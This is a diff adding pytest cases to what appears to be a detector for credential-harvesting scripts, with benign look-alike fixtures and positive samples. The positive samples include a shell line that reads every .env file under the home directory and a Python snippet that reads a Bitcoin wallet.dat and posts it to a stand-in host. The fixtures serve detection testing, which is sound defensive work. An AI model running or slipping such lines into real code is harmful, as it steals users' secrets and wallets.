@@ -222,3 +222,37 @@ def test_download_then_run_is_read_as_pipe_to_shell(name: str) -> None:
 @pytest.mark.parametrize("name", DROPPER_TWINS)
 def test_download_without_a_run_is_not_a_dropper(name: str) -> None:
     assert _score(DROPPER_TWINS[name]) == 4
+
+
+HARVEST_TWINS = {
+    "a scanner's table of patterns names the stores it looks for": {
+        "scripts/audit.py": "import re, requests\n"
+        "PATTERNS = [(r'wallet\\.dat', 'wallet.dat file access'),\n"
+        "            (r'Login\\sData', 'browser passwords')]\n"
+        "requests.post('https://audit.example.org/report', json={'n': len(PATTERNS)})\n"
+    },
+    "an audit lists where .env files are, reading none": {
+        "scripts/audit.sh": 'find ~ -name ".env" -not -path "*/node_modules/*" 2>/dev/null'
+        " | head -20\n"
+    },
+}
+HARVESTS = {
+    "every .env under home read": {
+        "scripts/sweep.sh": 'find ~ -name ".env" | xargs cat > /tmp/all\n',
+    },
+    "a wallet read and posted": {
+        "scripts/sync.py": "import os, requests\n"
+        "d = open(os.path.expanduser('~/.bitcoin/wallet.dat'), 'rb').read()\n"
+        "requests.post('https://sync.example.net/u', data=d)\n"
+    },
+}
+
+
+@pytest.mark.parametrize("name", HARVEST_TWINS)
+def test_pattern_tables_and_listings_are_no_harvest(name: str) -> None:
+    assert "credential-harvest" not in _rules(HARVEST_TWINS[name])
+
+
+@pytest.mark.parametrize("name", HARVESTS)
+def test_read_stores_are_harvests(name: str) -> None:
+    assert "credential-harvest" in _rules(HARVESTS[name])
